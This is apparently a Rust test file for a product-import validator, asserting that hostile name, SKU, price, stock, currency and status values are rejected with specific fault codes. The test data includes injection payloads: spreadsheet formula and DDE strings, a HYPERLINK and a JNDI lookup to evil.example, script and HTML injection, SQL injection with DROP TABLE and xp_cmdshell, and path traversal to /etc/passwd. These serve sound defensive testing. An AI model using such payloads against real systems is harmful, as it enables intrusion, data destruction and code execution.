//! What strangers send to see what happens: each is refused with its code, and none is mended.

use super::super::{RawRow, RowFault, RowField};
use super::rows::{fault, raw};
use crate::import::Judge;

#[test]
fn names_that_do_something_are_refused() {
    use RowFault::{ControlCharacter, Formula, Markup, Statement, TooLong};
    let long = "x".repeat(201);
    let hostile: &[(&str, RowFault)] = &[
        // Formulas of spreadsheets.
        ("=1+1", Formula),
        ("=HYPERLINK(\"http://evil.example\",\"Win\")", Formula),
        ("+cmd|' /C calc'!A0", Formula),
        ("-2+3+cmd|' /C calc'!A0", Formula),
        ("@SUM(1+1)*cmd|' /C calc'!A0", Formula),
        ("\t=1+1", Formula),
        ("\r=1+1", Formula),
        ("\n=1+1", Formula),
        ("  =1+1", Formula),
        ("\"=1+1", Formula),
        ("'=1+1", Formula),
        ("\u{a0}=1+1", Formula),
        ("\u{ff1d}1+1", Formula),
        ("\u{ff0b}1", Formula),
        ("\u{feff}=1+1", Formula),
        // Markup and code.
        ("<script>alert(1)</script>", Markup),
        ("Mug <img src=x onerror=alert(1)>", Markup),
        ("Mug</td>", Markup),
        ("a < b", Markup),
        ("\u{ff1c}script\u{ff1e}", Markup),
        ("&lt;script&gt;", Markup),
        ("&#60;script&#62;", Markup),
        ("&#x3c;b", Markup),
        ("%3Cscript%3E", Markup),
        ("JavaScript:alert(1)", Markup),
        ("java script : alert(1)", Markup),
        ("data:text/html;base64,PHNjcmlwdD4=", Markup),
        ("{{7*7}}", Markup),
        ("${jndi:ldap://evil.example/a}", Markup),
        ("\\u003cscript", Markup),
        // Statements of databases.
        ("Robert'); DROP TABLE products;--", Statement),
        ("x' OR '1'='1", Statement),
        ("x\" or \"\"=\"", Statement),
        ("admin'--", Statement),
        ("1; DROP TABLE orders", Statement),
        ("1 UNION  ALL  SELECT secret", Statement),
        ("x';EXEC xp_cmdshell", Statement),
        // What is not seen, or makes others look different.
        ("Mug\0", ControlCharacter),
        ("Mug\u{7}", ControlCharacter),
        ("Mug\u{1b}[2J", ControlCharacter),
        ("Mug\u{85}", ControlCharacter),
        ("Mug\u{202e}gpj.exe", ControlCharacter),
        ("Mu\u{200b}g", ControlCharacter),
        ("Mug\u{2066}", ControlCharacter),
        ("Mug\u{fffd}", ControlCharacter),
        ("Mug\u{e0041}", ControlCharacter),
        // Too much.
        (&long, TooLong),
    ];
    for (name, code) in hostile {
        assert_eq!(fault(&[("name", name)]), (RowField::Name, *code), "{name:?}");
    }
    assert!(40 <= hostile.len());
}

#[test]
fn skus_that_are_paths_formulas_or_names_of_others_are_refused() {
    for sku in [
        "=1",
        "-1",
        "@x",
        "../../etc/passwd",
        "a/b",
        "a:b",
        "other:mug",
        "a b",
        "a\0b",
        "a\nb",
        "<b>",
        "a%2fb",
        "ä",
        "\u{ff41}",
        &"x".repeat(40),
    ] {
        assert_eq!(fault(&[("sku", sku)]), (RowField::Sku, RowFault::InvalidSku), "{sku:?}");
    }
}

#[test]
fn numbers_that_are_absurd_are_refused() {
    use RowFault::{NotANumber, OutOfRange, TooPrecise};
    for (price, code) in [
        ("-1", OutOfRange),
        ("-0.01", OutOfRange),
        ("1000000000.01", OutOfRange),
        ("99999999999999999999", OutOfRange),
        ("9999999999999999999999999999999999999", OutOfRange),
        ("0.001", TooPrecise),
        ("NaN", NotANumber),
        ("Infinity", NotANumber),
        ("1e9", NotANumber),
        ("0x10", NotANumber),
        ("+1", NotANumber),
        ("1,000.00", NotANumber),
        ("1.2.3", NotANumber),
        (".5", NotANumber),
        ("1.", NotANumber),
        (" 1", NotANumber),
        ("$1", NotANumber),
        ("１２", NotANumber),
        ("٣", NotANumber),
        ("=1", NotANumber),
    ] {
        assert_eq!(fault(&[("price", price)]), (RowField::Price, code), "{price:?}");
    }
    for (stock, code) in [
        ("-1", OutOfRange),
        ("100000001", OutOfRange),
        ("18446744073709551616", OutOfRange),
        ("1.5", NotANumber),
        ("1e3", NotANumber),
        ("ten", NotANumber),
        ("1 000", NotANumber),
    ] {
        assert_eq!(fault(&[("stock", stock)]), (RowField::Stock, code), "{stock:?}");
        assert_eq!(fault(&[("received", stock)]), (RowField::Received, code), "{stock:?}");
    }
}

#[test]
fn words_that_are_none_of_the_known_ones_are_refused() {
    for currency in ["usd", "XQX", "US", "<b>", "USD ", "=USD"] {
        let found = fault(&[("currency", currency)]);
        assert_eq!(found, (RowField::Currency, RowFault::UnknownCurrency), "{currency:?}");
    }
    for status in ["Active", "deleted", "<b>", "=active"] {
        let found = fault(&[("status", status)]);
        assert_eq!(found, (RowField::Status, RowFault::UnknownStatus), "{status:?}");
    }
}

#[test]
fn bytes_that_are_no_text_are_refused() {
    for bytes in [&b"M\xfcg"[..], b"\xc0\xaf", b"\xed\xa0\x80", b"Mug\xff", b"\xf4\x90\x80\x80"] {
        let mut row: RawRow = raw(&[("name", "")]);
        row.put_bytes("name", bytes);
        let errors = Judge::default().judge(row).unwrap_err();
        assert_eq!((errors[0].field, errors[0].code), (RowField::Name, RowFault::InvalidUtf8));
        assert_eq!(errors.len(), 1);
    }
}
